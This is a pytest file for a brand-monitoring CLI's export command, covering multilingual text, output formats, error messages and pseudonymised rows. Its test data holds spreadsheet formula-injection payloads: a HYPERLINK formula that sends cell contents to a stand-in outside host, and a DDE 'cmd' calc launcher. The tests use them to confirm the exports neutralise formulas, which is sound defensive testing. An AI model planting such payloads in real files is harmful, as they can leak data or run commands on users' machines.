"""`brandpulse export` for analysts, on SQLite and PostgreSQL: a CSV (byte-order mark, formulas neutralised)
and an XLSX that spreadsheets open with Korean, Chinese and Vietnamese intact, the format taken from the file
name, the parent post in every row, and one-line errors (exit code 2) for bad paths and unknown brands."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from crawler.items import PostItem
from store import repo
from store.db import session_scope
from tests.dbutil import migrated_db
from tests.store.helpers import label, mention
from ui.cli.app import app

runner = CliRunner()
BRAND = "Glow Lab"
T0 = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
TEXTS = {
    "ko": "글로우랩 선크림 진짜 좋아요! 끈적임 없어요",
    "zh": "光澤實驗室的防曬乳很清爽，推薦",
    "vi": "Kem chống nắng Glow Lab dùng rất thích, không bết dính",
    "formula": '=HYPERLINK("http://outside.test/?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "lines": "dòng một\r\n=1+1 dòng hai",
}
POST = PostItem(
    platform="ptt",
    external_id="P1",
    url="https://www.ptt.cc/bbs/MakeUp/M.1.html",
    title="[心得] 光澤實驗室 防曬",
    text="Glow Lab post",
    published_at=T0,
)


@pytest.fixture(params=["sqlite", "postgresql"])
def seeded(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    url = migrated_db(request, tmp_path, "export.db")
    with session_scope(url) as s:
        repo.sync_brands(s, brands=[repo.BrandSpec(BRAND, '"glow lab"')])
        post_ids = repo.upsert_posts(s, posts=[POST])
        items = [
            mention(key, text, post="P1", brands=[BRAND], author=f"author-{key}", published_at=T0)
            for key, text in TEXTS.items()
        ]
        reply = mention("reply", "@author-ko 同意", post="P1", brands=[BRAND], parent_external_id="ko")
        reply.kind = "reply"
        body = mention("P1", "Glow Lab post", post="P1", brands=[BRAND], author="influencer", url=POST.url)
        body.kind = "post"  # the post's own text
        items += [reply, body]
        ids = repo.upsert_mentions(s, mentions=items, post_ids_by_key=post_ids)
        repo.write_labels(s, labels=[label(i, "positive") for i in ids.values()])
    monkeypatch.setenv("BRANDPULSE_DATABASE_URL", url)
    monkeypatch.delenv("BRANDPULSE_CONFIG", raising=False)
    monkeypatch.chdir(tmp_path)  # no brandpulse.toml here
    return url


def _export(*args: str) -> None:
    result = runner.invoke(app, ["export", *args])
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output


def test_csv_opens_with_its_text_intact_and_formulas_neutralised(seeded: str, tmp_path: Path) -> None:
    out = tmp_path / "mentions.csv"
    _export("--out", str(out))  # no --format: the name says CSV
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfmention_id,")  # the byte-order mark Excel needs to read UTF-8
    frame = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    texts = dict(zip(frame["external_id"], frame["text"], strict=True))
    for key in ("ko", "zh", "vi"):
        assert texts[key] == TEXTS[key]
    for key in ("formula", "plus", "at"):
        assert texts[key] == "'" + TEXTS[key]
    assert texts["lines"] == TEXTS["lines"]  # the line break stays inside its quoted cell
    assert texts["reply"] == "'@author-ko 同意"
    assert set(frame["author"]) >= {"author-ko", "author-zh"}
    # The parent post rides along: its id, link and title, and a reply's parent comment.
    assert set(frame["post_external_id"]) == {"P1"}
    assert set(frame["post_url"]) == {POST.url}
    assert set(frame["post_title"]) == {POST.title}
    assert frame.set_index("external_id").loc["reply", "parent_external_id"] == "ko"


def test_xlsx_round_trips_every_text_as_a_text_cell(seeded: str, tmp_path: Path) -> None:
    out = tmp_path / "mentions.xlsx"
    _export("--out", str(out), "--brand", BRAND)
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, (c for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert len(rows) == len(TEXTS) + 2  # and the reply and the post's own text
    by_id = {r["external_id"].value: r for r in rows}
    for key, text in TEXTS.items():
        cell = by_id[key]["text"]
        assert cell.value == text and cell.data_type == "s", key  # kept as stored, shown as text, never run
    assert not [c for r in rows for c in r.values() if c.data_type == "f"]  # no formula cell at all
    assert by_id["ko"]["published_at"].value == T0.replace(tzinfo=None)  # UTC; Excel has no zones
    assert by_id["ko"]["post_url"].value == POST.url and by_id["ko"]["post_title"].value == POST.title
    frame = pd.read_excel(out, dtype={"external_id": str})
    assert dict(zip(frame["external_id"], frame["text"], strict=True))["zh"] == TEXTS["zh"]


def test_the_format_comes_from_the_file_name(seeded: str, tmp_path: Path) -> None:
    _export("--out", str(tmp_path / "m.parquet"))
    assert set(pd.read_parquet(tmp_path / "m.parquet")["text"]) >= set(TEXTS.values())
    _export("--out", str(tmp_path / "m.jsonl"))
    lines = [json.loads(line) for line in (tmp_path / "m.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {r["text"] for r in lines} >= set(TEXTS.values())  # JSONL keeps values exactly as stored
    _export("-f", "CSV", "-o", str(tmp_path / "m.txt"))  # a name that says nothing: --format decides
    assert (tmp_path / "m.txt").read_bytes().startswith(b"\xef\xbb\xbf")

    unknown = runner.invoke(app, ["export", "--out", str(tmp_path / "m.txt")])
    assert unknown.exit_code == 2
    assert "cannot tell the format from the file name 'm.txt'" in unknown.stderr
    clash = runner.invoke(app, ["export", "--format", "jsonl", "--out", str(tmp_path / "n.csv")])
    assert clash.exit_code == 2 and "--format jsonl but --out n.csv names a csv file" in clash.stderr
    assert not (tmp_path / "n.csv").exists()
    bad = runner.invoke(app, ["export", "--format", "xml", "--out", str(tmp_path / "n.xml")])
    assert bad.exit_code == 2 and "'xml' is not one of" in bad.stderr


def test_bad_paths_and_unknown_brands_stop_with_one_line(seeded: str, tmp_path: Path) -> None:
    missing = runner.invoke(app, ["export", "--out", str(tmp_path / "no" / "such" / "m.csv")])
    assert missing.exit_code == 2
    assert missing.stderr.strip() == f"cannot write {tmp_path / 'no' / 'such' / 'm.csv'}: the folder " + (
        f"{tmp_path / 'no' / 'such'} does not exist"
    )
    folder = runner.invoke(app, ["export", "--format", "csv", "--out", str(tmp_path)])
    assert folder.exit_code == 2 and "it is a folder" in folder.stderr
    (tmp_path / "file").write_text("x", encoding="utf-8")
    under_file = runner.invoke(app, ["export", "--out", str(tmp_path / "file" / "m.csv")])
    assert under_file.exit_code == 2 and "is not a folder" in under_file.stderr

    export = runner.invoke(app, ["export", "--brand", "Nope", "--out", str(tmp_path / "nope.csv")])
    kpi = runner.invoke(app, ["kpi", "--brand", "Nope"])
    assert export.exit_code == kpi.exit_code == 2
    assert export.stderr == kpi.stderr  # one message for both: the database, its brands, what to do
    assert export.stderr.startswith("unknown brand 'Nope' in ") and f"brands there: {BRAND}" in export.stderr
    assert len(export.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "nope.csv").exists()
    for result in (missing, folder, under_file, export, kpi):
        assert "Traceback" not in result.output


def test_an_export_replaces_the_file_whole(seeded: str, tmp_path: Path) -> None:
    out = tmp_path / "m.csv"
    out.write_bytes(b"x" * 1_000_000)  # an older, bigger file of the same name
    _export("--out", str(out), "--sentiment", "POSITIVE")
    assert len(pd.read_csv(io.BytesIO(out.read_bytes()), encoding="utf-8-sig")) == len(TEXTS) + 2
    assert [p.name for p in tmp_path.iterdir() if "partial" in p.name] == []


def test_pseudonymised_rows_keep_a_comments_post_but_not_a_posts_own_link(
    seeded: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BRANDPULSE_PSEUDONYM_SALT", "a-salt-of-at-least-16-chars")
    out = tmp_path / "p.jsonl"
    _export("--out", str(out), "--pseudonymise-authors")
    rows = {r["external_id"]: r for r in map(json.loads, out.read_text(encoding="utf-8").splitlines())}
    assert {r["url"] for r in rows.values()} == {None}
    assert rows["ko"]["post_url"] == POST.url and rows["ko"]["post_external_id"] == "P1"
    assert rows["P1"]["kind"] == "post" and rows["P1"]["post_url"] is None  # it leads to its author
    assert rows["P1"]["author"].startswith("author-") and rows["P1"]["author"] != "influencer"
